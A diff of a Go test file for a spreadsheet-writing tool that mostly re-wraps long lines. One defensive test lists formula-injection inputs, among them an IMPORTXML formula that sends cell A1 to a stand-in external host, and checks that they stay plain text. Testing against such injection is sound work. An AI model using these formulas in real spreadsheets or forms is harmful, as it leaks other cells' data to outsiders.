@@ -24,7 +24,8 @@ func TestRowsAreWrittenRaw(t *testing.T) {
 		var out sheets.Written
 		w.run(t, sheetTool, sheetArgs, &out)
 		expect.Same(t, sheets.Written{
-			SpreadsheetID: "ringi-demo-sheet", UpdatedRange: "'tab ''a'''!A1:B4", UpdatedRows: 3, UpdatedCells: 8, URL: w.url + "/sheets/ringi-demo-sheet", RowsBelow: new(int),
+			SpreadsheetID: "ringi-demo-sheet", UpdatedRange: "'tab ''a'''!A1:B4", UpdatedRows: 3, UpdatedCells: 8, URL: w.url +
+				"/sheets/ringi-demo-sheet", RowsBelow: new(int),
 		}, out)
 		expect.Same(t, want, w.vendors.Rows("ringi-demo-sheet", "tab 'a'"))
 	}
@@ -34,7 +35,8 @@ func TestRowsAreWrittenRaw(t *testing.T) {
 // No text may become a formula. With a formula, people who fill in a form could read other cells and send them away.
 func TestFormulasStayText(t *testing.T) {
 	w := newWorld(t)
-	texts := []string{`=IMPORTXML("https://example.com/?"&A1,"//a")`, `=HYPERLINK("https://example.com","x")`, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "'=1", "2026-03-31", "TRUE", "007"}
+	texts := []string{`=IMPORTXML("https://example.com/?"&A1,"//a")`, `=HYPERLINK("https://example.com","x")`, "+1+1",
+		"-1+1", "@SUM(A1)", "\t=1", "'=1", "2026-03-31", "TRUE", "007"}
 	var rows []map[string]string
 	want := [][]any{{"=TITLE()"}}
 	for _, text := range texts {
@@ -42,7 +44,8 @@ func TestFormulasStayText(t *testing.T) {
 		want = append(want, []any{text})
 	}
 	b := expect.Value(json.Marshal(map[string]any{
-		"spreadsheet_id": "ringi-demo-sheet", "sheet": "=A1", "columns": []any{map[string]string{"key": "v", "title": "=TITLE()"}}, "rows": rows,
+		"spreadsheet_id": "ringi-demo-sheet", "sheet": "=A1",
+		"columns": []any{map[string]string{"key": "v", "title": "=TITLE()"}}, "rows": rows,
 	}))(t)
 	var out sheets.Written
 	w.run(t, sheetTool, string(b), &out) // the stand-in refuses values that are not RAW
@@ -60,7 +63,8 @@ func table(t *testing.T, tab string, rows, columns int) string {
 	for i := range lines {
 		lines[i] = map[string]int{"v": i}
 	}
-	b := expect.Value(json.Marshal(map[string]any{"spreadsheet_id": "ringi-demo-sheet", "sheet": tab, "columns": titles, "rows": lines}))(t)
+	b := expect.Value(json.Marshal(map[string]any{"spreadsheet_id": "ringi-demo-sheet", "sheet": tab, "columns": titles,
+		"rows": lines}))(t)
 	return string(b)
 }
 
@@ -80,7 +84,8 @@ func TestATabIsAsLargeAsItsTable(t *testing.T) {
 			}
 			var out sheets.Written
 			w.run(t, sheetTool, table(t, "tab", test.rows, test.columns), &out)
-			if rows := w.vendors.Rows("ringi-demo-sheet", "tab"); out.UpdatedRows != test.rows || len(rows) != test.rows+1 || len(rows[0]) != test.columns {
+			if rows := w.vendors.Rows("ringi-demo-sheet", "tab"); out.UpdatedRows != test.rows || len(rows) != test.rows+1 ||
+				len(rows[0]) != test.columns {
 				t.Errorf("%+v, %d rows", out, len(rows))
 			}
 		})
@@ -124,7 +129,8 @@ func TestASpreadsheetWithoutRoom(t *testing.T) {
 
 // Google takes titles that differ only in case for one: the tab that is there is meant, each time the call is made.
 func TestATabIsFoundWhateverItsCase(t *testing.T) {
-	for is, asked := range map[string]string{"overtime 2026-10": "Overtime 2026-10", "ＡＢＣ": "ａｂｃ", "ÉTÉ": "été", "tab": "tab"} {
+	for is, asked := range map[string]string{"overtime 2026-10": "Overtime 2026-10", "ＡＢＣ": "ａｂｃ", "ÉTÉ": "été",
+		"tab": "tab"} {
 		w := newWorld(t)
 		expect.NoError(t, w.vendors.Add(is, 5, 1))
 		for range 2 {
